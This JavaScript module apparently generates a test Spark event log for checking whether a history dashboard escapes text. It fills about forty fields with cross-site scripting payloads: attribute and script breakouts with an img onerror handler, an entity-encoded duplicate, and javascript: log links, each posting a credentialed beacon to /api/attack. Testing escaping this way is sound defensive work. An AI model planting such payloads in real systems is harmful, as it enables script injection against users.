// An event log that runs script wherever Spark shows one of its texts as it is: one of the examples, with markup in it.
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { PROJECT } from './program.js';

export const EXAMPLE = 'spark-6f0d3c1a9be24c5f8a7714d2be90c3e1';
export const CRAFTED = 'spark-crafted';
export const RUN = '22222222-2222-2222-2222-222222222222';
const PLAN = 'org.apache.spark.sql.execution.ui.SparkListenerSQL';

const inStages = (event) => event['Stage Infos'] ?? (event['Stage Info'] ? [event['Stage Info']] : []);
const inRdds = (event) => inStages(event).flatMap((stage) => stage['RDD Info']);
const set = (object, key, value) => object && (object[key] = value);
const each = (list, change) => list.forEach(change);
const nodes = (plan) => (plan ? [plan, ...plan.children.flatMap(nodes)] : []);
const inNodes = (event) => nodes(event.sparkPlanInfo);
const ofType = (type, change) => (event, text, link) => event.Event === type && change(event, text, link);
const environment = (part, key) =>
  ofType('SparkListenerEnvironmentUpdate', (event, text) => set(event[part], key ?? text, key ? text : 'x'));

// one text of an event log, and how it is replaced
const FIELDS = {
  'application-name': ['the name of an application', ofType('SparkListenerApplicationStart', (e, text) => set(e, 'App Name', text))],
  user: ['the name of its user', ofType('SparkListenerApplicationStart', (e, text) => set(e, 'User', text))],
  'job-description': ['the description of a job', (e, text) => set(e.Properties, 'spark.job.description', text)],
  'job-group': ['the group of a job', (e, text) => set(e.Properties, 'spark.jobGroup.id', text)],
  failure: [
    'the failure of a job',
    ofType('SparkListenerJobEnd', (e, text) => {
      e['Job Result'] = { Result: 'JobFailed', Exception: { Message: text, 'Stack Trace': [] } };
    }),
  ],
  'stage-name': ['the name of a stage', (e, text) => each(inStages(e), (stage) => set(stage, 'Stage Name', text))],
  'stage-details': ['the call stack of a stage', (e, text) => each(inStages(e), (stage) => set(stage, 'Details', text))],
  'stage-failure': ['the failure of a stage', ofType('SparkListenerStageCompleted', (e, text) => set(e['Stage Info'], 'Failure Reason', text))],
  'task-failure': [
    'the failure of a task',
    ofType('SparkListenerTaskEnd', (e, text) => {
      e['Task End Reason'] = { Reason: 'ExceptionFailure', 'Class Name': 'X', Description: text, 'Stack Trace': [], 'Full Stack Trace': text, 'Accumulator Updates': [] };
      e['Task Info'].Failed = true;
    }),
  ],
  pool: ['the name of a pool', (e, text) => set(e.Properties, 'spark.scheduler.pool', text)],
  'rdd-name': ['the name of an RDD', (e, text) => each(inRdds(e), (rdd) => set(rdd, 'Name', text))],
  'rdd-site': ['the call site of an RDD', (e, text) => each(inRdds(e), (rdd) => set(rdd, 'Callsite', text))],
  'rdd-scope': ['the operation of an RDD', (e, text) => each(inRdds(e), (rdd) => rdd.Scope && set(rdd, 'Scope', JSON.stringify({ id: JSON.parse(rdd.Scope).id, name: text })))],
  accumulator: ['the name of an accumulator', ofType('SparkListenerStageCompleted', (e, text) => e['Stage Info'].Accumulables.push({ ID: 9001, Name: text, Value: '1', Internal: false, 'Count Failed Values': false }))],
  'accumulator-value': ['the value of an accumulator', ofType('SparkListenerStageCompleted', (e, text) => e['Stage Info'].Accumulables.push({ ID: 9002, Name: 'sum', Value: text, Internal: false, 'Count Failed Values': false }))],
  host: ['the host of an executor', ofType('SparkListenerExecutorAdded', (e, text) => set(e['Executor Info'], 'Host', text))],
  removal: ['why an executor went', ofType('SparkListenerExecutorRemoved', (e, text) => set(e, 'Removed Reason', text))],
  'log-name': ['the name of an executor’s log', ofType('SparkListenerExecutorAdded', (e, text) => set(e['Executor Info']['Log Urls'], text, 'https://listener.test/'))],
  'log-address': ['the address of an executor’s log (`javascript:`)', ofType('SparkListenerExecutorAdded', (e, text, link) => set(e['Executor Info']['Log Urls'], 'stdout', link))],
  'log-markup': ['the address of an executor’s log (markup)', ofType('SparkListenerExecutorAdded', (e, text) => set(e['Executor Info']['Log Urls'], 'stderr', text))],
  attribute: ['an attribute of an executor', ofType('SparkListenerExecutorAdded', (e, text) => set(e['Executor Info'].Attributes, 'CONTAINER_ID', text))],
  'property-name': ['the name of a Spark property', environment('Spark Properties')],
  'property-value': ['the value of a Spark property', environment('Spark Properties', 'spark.crafted')],
  'property-app-name': ['the property `spark.app.name`', environment('Spark Properties', 'spark.app.name')],
  'system-property': ['a system property', environment('System Properties', 'crafted')],
  'hadoop-property': ['a Hadoop property', environment('Hadoop Properties', 'crafted')],
  'java-home': ['the JVM’s home', environment('JVM Information', 'Java Home')],
  'class-path': ['the class path', environment('Classpath Entries')],
  'sql-description': ['the description of a query', ofType(`${PLAN}ExecutionStart`, (e, text) => set(e, 'description', text))],
  'sql-details': ['the call stack of a query', ofType(`${PLAN}ExecutionStart`, (e, text) => set(e, 'details', text))],
  'sql-plan': ['the plan of a query', (e, text) => e.physicalPlanDescription && set(e, 'physicalPlanDescription', text)],
  'sql-node': ['the name of an operator', (e, text) => each(inNodes(e), (node) => set(node, 'nodeName', text))],
  'sql-text': ['the text of an operator', (e, text) => each(inNodes(e), (node) => set(node, 'simpleString', text))],
  'sql-metric': ['the name of a metric', (e, text) => each(inNodes(e), (node) => each(node.metrics, (metric) => set(metric, 'name', text)))],
  'sql-error': ['the failure of a query', ofType(`${PLAN}ExecutionEnd`, (e, text) => set(e, 'errorMessage', text))],
  'sql-setting': ['a setting of a query', ofType(`${PLAN}ExecutionStart`, (e, text) => set(e, 'modifiedConfigs', { 'spark.sql.crafted': text }))],
  'streaming-name': ['the name of a streaming query', ofType('crafted', () => {})],
  'streaming-failure': ['the failure of a streaming query', ofType('crafted', () => {})],
};

export const LOG_ATTACKS = Object.entries(FIELDS).map(([id, [title]]) => ({ id, title }));

/** Writes the log into a folder; what runs posts to /api/attack/VERSION-FIELD of the dashboard's origin. */
export function writeCraftedLog(folder, version) {
  mkdirSync(folder, { recursive: true });
  const example = readFileSync(`${PROJECT}examples/eventlogs/recommendations/history/${EXAMPLE}`, 'utf8');
  const events = example.replaceAll(EXAMPLE, CRAFTED).trim().split('\n').map((line) => JSON.parse(line));
  const removed = { Event: 'SparkListenerExecutorRemoved', Timestamp: 1770096628557, 'Executor ID': 'driver', 'Removed Reason': '' };
  const streaming = streamingQuery(markup(`${version}-streaming-name`), markup(`${version}-streaming-failure`));
  events.splice(-1, 0, removed, ...streaming);
  for (const event of events) {
    for (const [id, [, change]] of Object.entries(FIELDS)) {
      change(event, markup(`${version}-${id}`), `javascript:${posting(`${version}-${id}`)}`);
    }
  }
  writeFileSync(`${folder}/${CRAFTED}`, events.map((event) => JSON.stringify(event)).join('\n') + '\n');
}

// no spaces and no double quotes, so that it is whole in whatever it lands
const posting = (id) =>
  `void(fetch('//dashboard.'+location.host.split('.').slice(-2).join('.')+'/api/attack/${id}',{method:'POST',mode:'no-cors',credentials:'include'}))`;

/** Gets out of an attribute and of a script, and is there a second time for what is unescaped once. */
function markup(id) {
  const element = `"'></script><img src=x onerror=${posting(id)}>`;
  return element + element.replace(/[&<>"']/g, (character) => `&#${character.charCodeAt(0)};`);
}

function streamingQuery(name, exception) {
  const ids = { id: '11111111-1111-1111-1111-111111111111', runId: RUN };
  const type = 'org.apache.spark.sql.streaming.StreamingQueryListener$Query';
  return [
    { Event: `${type}StartedEvent`, ...ids, name, timestamp: '2026-02-03T05:30:00.000Z' },
    { Event: `${type}TerminatedEvent`, ...ids, exception },
  ];
}
